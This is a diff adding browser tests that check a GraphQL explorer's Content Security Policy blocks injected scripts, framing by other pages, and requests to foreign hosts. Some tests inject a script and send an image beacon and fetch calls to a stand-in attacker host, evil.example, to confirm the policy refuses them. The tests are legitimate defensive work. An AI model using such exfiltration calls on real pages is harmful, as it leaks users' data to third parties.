@@ -90,6 +90,76 @@ test('the explorer is sent compressed, and again only when it has changed', asyn
     await world.drop();
   });
 
+  /** What a policy keeps a page from, as its console tells it. */
+  const refusedOn = (page: Page): string[] => {
+    const refused: string[] = [];
+    page.on('console', (message) => {
+      if (/content security policy/i.test(message.text())) refused.push(message.text());
+    });
+    return refused;
+  };
+
+  test('the policy of the explorer lets its own scripts run, and no other', async () => {
+    const page = await browser.newPage();
+    const refused = refusedOn(page);
+    await page.goto(`${origin}/explorer`);
+    await page.getByRole('button', { name: /execute/i }).click();
+    await expectText(page, '.graphiql-response', 'totalCount');
+    expect(refused).toEqual([]);
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'document.title = "run"';
+      document.head.append(script);
+      new Image().src = 'https://evil.example/?what-was-read';
+      void fetch('https://evil.example/').catch(() => {});
+    });
+    await until(() => refused.length >= 3);
+    expect(await page.title()).toBe('Opsgraph explorer');
+    await page.close();
+  });
+
+  test('no page shows the explorers within its own', async () => {
+    const page = await browser.newPage();
+    const refused = refusedOn(page);
+    await page.setContent(
+      `<iframe src="${origin}/explorer"></iframe><iframe src="${origin}/graphql"></iframe>`,
+    );
+    await until(() => refused.length >= 2);
+    expect(refused.every((message) => message.includes('frame-ancestors'))).toBe(true);
+    await page.close();
+  });
+
+  test('the policy of Sandbox lets it load its frame and ask our endpoint, and nothing else', async () => {
+    const page = await browser.newPage();
+    const refused = refusedOn(page);
+    // In place of Apollo's servers, which not every machine reaches: what Sandbox does with our page.
+    const sandbox = `window.EmbeddedSandbox = class {
+      constructor({ target, initialEndpoint }) {
+        const frame = document.createElement('iframe');
+        frame.src = 'https://sandbox.embed.apollographql.com/sandbox/explorer';
+        document.querySelector(target).append(frame);
+        fetch(initialEndpoint, {
+          method: 'POST',
+          headers: { 'content-type': 'application/json' },
+          body: JSON.stringify({ query: '{ __typename }' }),
+        }).then(async (answer) => { document.title = await answer.text(); });
+      }
+    }`;
+    await page.route(/apollographql\.com/, (route) =>
+      route.request().resourceType() === 'script'
+        ? route.fulfill({ contentType: 'text/javascript', body: sandbox })
+        : route.fulfill({ contentType: 'text/html', body: '<p>Sandbox</p>' }),
+    );
+    await page.route(/googleapis/, (route) => route.fulfill({ contentType: 'text/css', body: '' }));
+    await page.goto(`${origin}/graphql`);
+    await page.frameLocator('iframe').getByText('Sandbox').waitFor();
+    await until(async () => (await page.title()).includes('"Query"'));
+    expect(refused).toEqual([]);
+    await page.evaluate(() => void fetch('https://evil.example/').catch(() => {}));
+    await until(() => refused.length >= 1);
+    await page.close();
+  });
+
   test('Sandbox opens on the endpoint', async () => {
     const page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
     await page.goto(`${origin}/graphql`, { waitUntil: 'domcontentloaded' });
